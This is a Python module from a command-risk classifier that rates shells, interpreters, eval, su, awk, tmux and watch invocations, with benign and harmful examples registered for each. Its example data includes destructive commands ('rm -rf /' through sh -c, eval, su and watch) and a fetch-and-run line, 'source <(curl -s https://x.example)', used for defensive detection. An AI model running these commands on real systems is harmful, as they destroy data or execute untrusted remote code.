"""Shells, interpreters and programs that run strings as commands."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from typing import TYPE_CHECKING

from terminal.risk.model import Cmd, Hit, Risk, Trait
from terminal.risk.paths import _first_operand, split_options
from terminal.risk.registry import RUNS_UNSEEN, register
from terminal.risk.rules.network import _DECODERS, _DOWNLOADERS
from terminal.risk.rules.packages import _package_manager

if TYPE_CHECKING:
    from terminal.risk.walker import _Walker


def _newgrp(cmd: Cmd, _w: _Walker) -> Iterator[Hit]:
    if {"--help", "--version", "-h", "-V"} & set(cmd.args):
        return
    yield Hit(Risk.HIGH, "starts a shell with another group", Trait.NESTED_SHELL)


def _sg(cmd: Cmd, w: _Walker) -> Iterator[Hit]:
    """`sg GROUP [-c] COMMAND` runs COMMAND with /bin/sh -c; without one it starts a shell."""
    args = [a for a in cmd.args if a != "-"]
    rest = [a for a in args[1:] if a != "-c"]
    if rest:
        yield from w.run_string(" ".join(rest), None, cmd)
    elif args:
        yield Hit(Risk.HIGH, "starts a shell with another group", Trait.NESTED_SHELL)


_SHELLS = {"bash", "sh", "zsh", "dash", "ksh", "mksh", "ash", "fish", "csh", "tcsh", "rbash", "yash"}


def _shell(cmd: Cmd, w: _Walker) -> Iterator[Hit]:
    opts, _, i = split_options(cmd.args, "oO", ("rcfile", "init-file"))
    if opts & {"version", "help"}:
        return
    operands, words = cmd.args[i:], cmd.words[1 + i :] if cmd.words else []
    if "c" in opts:
        if operands:
            yield from w.run_string(operands[0], words[0] if words else None, cmd)
        return
    if operands and operands[0] not in {"-", "/dev/stdin"} and "s" not in opts:
        yield from _script_operand(words[0] if words else None, w)
        return
    yield from _stdin_code(cmd, w, shell=True)


def _script_operand(word, w: _Walker) -> Iterator[Hit]:
    names = w.substitution_names(word)
    if names & _DOWNLOADERS:
        yield Hit(Risk.DANGEROUS, "runs a script downloaded from the network")
    elif names & _DECODERS:
        yield Hit(Risk.DANGEROUS, "runs a decoded (obfuscated) script")
    else:
        yield Hit(Risk.MODERATE, "runs a script file", Trait.SCRIPT_FILE)


def _stdin_code(cmd: Cmd, w: _Walker, *, shell: bool) -> Iterator[Hit]:
    """A shell or interpreter that reads its program from stdin."""
    if cmd.stdin == "here" and cmd.stdin_text is not None:
        if shell:
            yield from w.run_string(cmd.stdin_text, None, cmd)
        else:
            yield Hit(Risk.HIGH, "runs inline code from a here-document", Trait.INLINE_CODE)
    elif cmd.stdin == "file":
        yield Hit(Risk.MODERATE, "runs a script file", Trait.SCRIPT_FILE)
    elif cmd.stdin == "pipe":
        pass  # judged with the rest of the pipeline (see _Walker.pipeline)
    elif shell:
        yield Hit(Risk.HIGH, "starts an interactive shell that escapes the command hook", Trait.NESTED_SHELL)
    else:
        yield Hit(Risk.MODERATE, "starts an interactive interpreter that escapes the command hook", Trait.NESTED_SHELL)


@dataclass(frozen=True)
class Interpreter:
    lang: str
    inline: frozenset[str]  # options whose value is code
    values: str = ""  # short options taking a value
    info: frozenset[str] = frozenset({"V", "v", "version", "h", "help"})


_INTERPRETERS = {
    "python": Interpreter("Python", frozenset({"c"}), "WXQ", frozenset({"V", "version", "h", "help"})),
    "pypy": Interpreter("Python", frozenset({"c"}), "WXQ", frozenset({"V", "version", "h", "help"})),
    "perl": Interpreter("Perl", frozenset({"e", "E"}), "IMmx"),
    "ruby": Interpreter("Ruby", frozenset({"e"}), "Ir"),
    "node": Interpreter("JavaScript", frozenset({"e", "eval", "p", "print"}), "r"),
    "nodejs": Interpreter("JavaScript", frozenset({"e", "eval", "p", "print"}), "r"),
    "php": Interpreter("PHP", frozenset({"r"}), "cdz"),
    "lua": Interpreter("Lua", frozenset({"e"}), "l"),
    "Rscript": Interpreter("R", frozenset({"e"})),
    "osascript": Interpreter("AppleScript", frozenset({"e"})),
    "pwsh": Interpreter("PowerShell", frozenset({"c", "Command", "command"})),
    "tclsh": Interpreter("Tcl", frozenset()),
    "julia": Interpreter("Julia", frozenset({"e"})),
    "irb": Interpreter("Ruby", frozenset()),
    "ipython": Interpreter("Python", frozenset({"c"})),
}


def _interpreter(cmd: Cmd, w: _Walker) -> Iterator[Hit]:
    spec = _INTERPRETERS[cmd.name]
    args = cmd.args
    for n, a in enumerate(args):
        if not a.startswith("-") or a in {"-", "--"}:
            break
        key = a.lstrip("-")
        if key in spec.info and n == 0:
            return
        if key == "m" or a.startswith("-m") and spec.lang == "Python":
            module = a[2:] or (args[n + 1] if n + 1 < len(args) else "")
            if module == "pip":
                yield from _package_manager(Cmd(argv=["pip", *args[n + 2 :]], text=cmd.text), w)
            else:
                yield Hit(Risk.MODERATE, f"runs the {spec.lang} module {module}", Trait.SCRIPT_FILE)
            return
        if key in spec.inline or (not a.startswith("--") and _cluster_has(a[1:], spec)):
            yield Hit(Risk.HIGH, f"runs inline {spec.lang} code", Trait.INLINE_CODE)
            return
    _, _, i = split_options(args, spec.values)
    if i < len(args) and args[i] not in {"-", "/dev/stdin"}:
        yield from _script_operand(cmd.words[1 + i] if cmd.words else None, w)
    else:
        yield from _stdin_code(cmd, w, shell=False)


def _cluster_has(letters: str, spec: Interpreter) -> bool:
    """Does a short-option cluster such as -ne contain an inline-code option?"""
    for ch in letters:
        if ch in spec.inline:
            return True
        if ch in spec.values:
            return False
    return False


def _source(cmd: Cmd, w: _Walker) -> Iterator[Hit]:
    if not cmd.args:
        return
    yield from _script_operand(cmd.words[1] if cmd.words else None, w)


def _awk(cmd: Cmd, _w: _Walker) -> Iterator[Hit]:
    opts, vals, i = split_options(cmd.args, "fvFW", ("file", "assign", "field-separator"))
    if "f" in opts or "file" in opts:
        yield Hit(Risk.MODERATE, "runs an awk program file", Trait.SCRIPT_FILE)
    elif i < len(cmd.args) and re.search(r"system\s*\(|\|\s*getline|\|\s*\"|print[^;}]*\|", cmd.args[i]):
        yield Hit(Risk.HIGH, "awk program runs shell commands", Trait.INLINE_CODE)


def _eval(cmd: Cmd, w: _Walker) -> Iterator[Hit]:
    if cmd.args:
        yield from w.run_string(" ".join(cmd.args), cmd.words[1:] if cmd.words else None, cmd)


def _multiplexer(cmd: Cmd, _w: _Walker) -> Iterator[Hit]:
    first = _first_operand(cmd.args, "SLfrtcsx")
    if set(cmd.args) & {"-ls", "-list", "ls", "list-sessions", "-v", "-V"} or first in {
        "ls",
        "list-sessions",
        "kill-server",
        "kill-session",
    }:
        return
    yield Hit(Risk.HIGH, "starts shells the command hook cannot see into", Trait.NESTED_SHELL)


def _su(cmd: Cmd, w: _Walker) -> Iterator[Hit]:
    _, vals, _ = split_options(
        cmd.args, "cgGsw", ("command", "group", "supp-group", "shell", "whitelist-environment", "session-command")
    )
    for n, a in enumerate(cmd.args):
        if a in {"-c", "--command", "--session-command"} and n + 1 < len(cmd.args):
            word = cmd.words[n + 2] if cmd.words else None
            yield from w.run_string(cmd.args[n + 1], word, cmd)
            return
        if a.startswith("--command="):
            yield from w.run_string(a.split("=", 1)[1], None, cmd)
            return
    yield Hit(Risk.HIGH, "privilege escalation: opens a shell as another user", Trait.NESTED_SHELL)


def _watch(cmd: Cmd, w: _Walker) -> Iterator[Hit]:
    """`watch CMD…` runs its words joined, through `sh -c`, again and again."""
    _, _, i = split_options(cmd.args, "n", ("interval",))
    rest = cmd.args[i:]
    if rest:
        yield from w.run_string(" ".join(rest), None, cmd)


def _shell_input_args(cmd: Cmd) -> Iterator[Hit]:
    """Appended words are positional parameters of a known `-c STRING` or script; without one,
    or with the marker inside the string, the input is the code."""
    _, _, i = split_options(cmd.args, "oO", ("rcfile", "init-file"))
    operands = cmd.args[i:]
    if not operands or (cmd.input_marker and cmd.input_marker in operands[0]):
        yield Hit(Risk.HIGH, "runs a command string or script named by its input")


register(*sorted(_SHELLS), family="shells", check=_shell, input_args=_shell_input_args, tags={"shell"},
         summary="`-c STRING` judged as the string; a script file MODERATE; an interactive "
                 "shell HIGH; a here-document or here-string judged as commands",
         benign={"bash -c 'ls -l'": Risk.SAFE, "bash build.sh": Risk.MODERATE},
         harmful={"bash": Risk.HIGH, "sh -c 'rm -rf /'": Risk.DANGEROUS})
register(*sorted(_INTERPRETERS), family="interpreters", check=_interpreter,
         input_args=Hit(Risk.MODERATE, "runs a script or code named by its input", Trait.SCRIPT_FILE),
         summary="a script file or module MODERATE; inline code (`python -c`, `perl -e`, "
                 "`node -e`, `php -r`, `lua -e`, a here-document) HIGH; a REPL MODERATE",
         benign={"python3 --version": Risk.SAFE, "python3 manage.py test": Risk.MODERATE},
         harmful={"python3 -c 'print(1)'": Risk.HIGH, "perl -e 1": Risk.HIGH, "python3 -m pip uninstall x": Risk.HIGH})
register("source", ".", family="shells", check=_source,
         input_args=Hit(Risk.MODERATE, "runs a script named by its input", Trait.SCRIPT_FILE),
         summary="`source FILE`, `. FILE` MODERATE", benign={"source": Risk.SAFE},
         harmful={"source env.sh": Risk.MODERATE, "source <(curl -s https://x.example)": Risk.DANGEROUS})
register("eval", family="shells", check=_eval, input_args=RUNS_UNSEEN,
         summary="`eval WORDS` judged as the words; built at run time HIGH", benign={"eval ls": Risk.SAFE},
         harmful={"eval \"$X\"": Risk.HIGH, "eval rm -rf /": Risk.DANGEROUS})
register("awk", "gawk", "mawk", "nawk", family="interpreters", check=_awk,
         input_args=Hit(Risk.MODERATE, "runs an awk program named by its input", Trait.INLINE_CODE),
         summary="a program calling `system()` or piping to commands HIGH; `-f FILE` MODERATE",
         benign={"awk '{print $1}' notes.txt": Risk.SAFE}, harmful={"awk 'BEGIN{system(\"id\")}'": Risk.HIGH})
register("su", family="shells", check=_su, input_args=RUNS_UNSEEN,
         summary="`su -c STRING` judged as the string; otherwise opens a shell as another user (HIGH)",
         benign={"su -c 'ls' alice": Risk.SAFE}, harmful={"su -": Risk.HIGH, "su -c 'rm -rf /'": Risk.DANGEROUS})
register("sg", family="shells", check=_sg, input_args=RUNS_UNSEEN,
         summary="`sg GROUP CMD` judged as CMD; without one it starts a shell", benign={"sg staff ls": Risk.SAFE},
         harmful={"sg staff": Risk.HIGH})
register("newgrp", family="shells", check=_newgrp, summary="starts a shell with another group (HIGH)",
         benign={"newgrp --help": Risk.SAFE}, harmful={"newgrp staff": Risk.HIGH})
register("tmux", "screen", "byobu", family="shells", check=_multiplexer,
         summary="terminal multiplexers start shells the hook cannot see into (HIGH); listing SAFE",
         benign={"tmux ls": Risk.SAFE}, harmful={"tmux": Risk.HIGH})
register("watch", family="shells", check=_watch, summary="`watch CMD` judged as CMD",
         benign={"watch -n 5 df -h": Risk.SAFE}, harmful={"watch rm -rf /": Risk.DANGEROUS})
